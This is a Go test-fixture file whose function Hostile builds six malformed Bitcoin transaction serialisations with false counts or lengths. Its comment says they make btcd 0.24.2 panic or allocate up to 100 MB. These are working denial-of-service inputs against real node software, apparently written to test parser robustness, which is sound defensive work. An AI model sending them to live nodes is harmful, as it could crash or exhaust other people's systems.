package testblock

import (
	"encoding/binary"
	"slices"
)

// Hostile returns truncated serialisations of transactions, by the field whose count or length is false. btcd 0.24.2
// panics at the scripts: 4,000,000 bytes exceed what the 195,000 bytes before them leave of its buffer of 4 MiB. For
// the counts it allocates up to 100 MB.
func Hostile() map[string][]byte {
	var (
		version   = []byte{2, 0, 0, 0}
		marker    = []byte{0, 1}
		one       = []byte{1}
		outpoint  = make([]byte, 36)
		long      = append(number(195_000), make([]byte, 195_000)...)
		empty     = []byte{0}
		sequence  = []byte{0xff, 0xff, 0xff, 0xff}
		value     = make([]byte, 8)
		claim     = append(number(4_000_000), make([]byte, 8)...)
		longInput = slices.Concat(outpoint, long, sequence)
		input     = slices.Concat(outpoint, empty, sequence)
		output    = slices.Concat(value, empty)
	)
	return map[string][]byte{
		"input script":  slices.Concat(version, []byte{2}, longInput, outpoint, claim),
		"output script": slices.Concat(version, one, longInput, one, value, claim),
		"witness item":  slices.Concat(version, marker, one, longInput, one, output, one, claim),
		"inputs":        slices.Concat(version, number(700_000), make([]byte, 60)),
		"outputs":       slices.Concat(version, one, input, claim),
		"witness items": slices.Concat(version, marker, one, input, empty, claim),
	}
}

// number encodes a count or a length in 5 bytes.
func number(n uint32) []byte { return binary.LittleEndian.AppendUint32([]byte{0xfe}, n) }
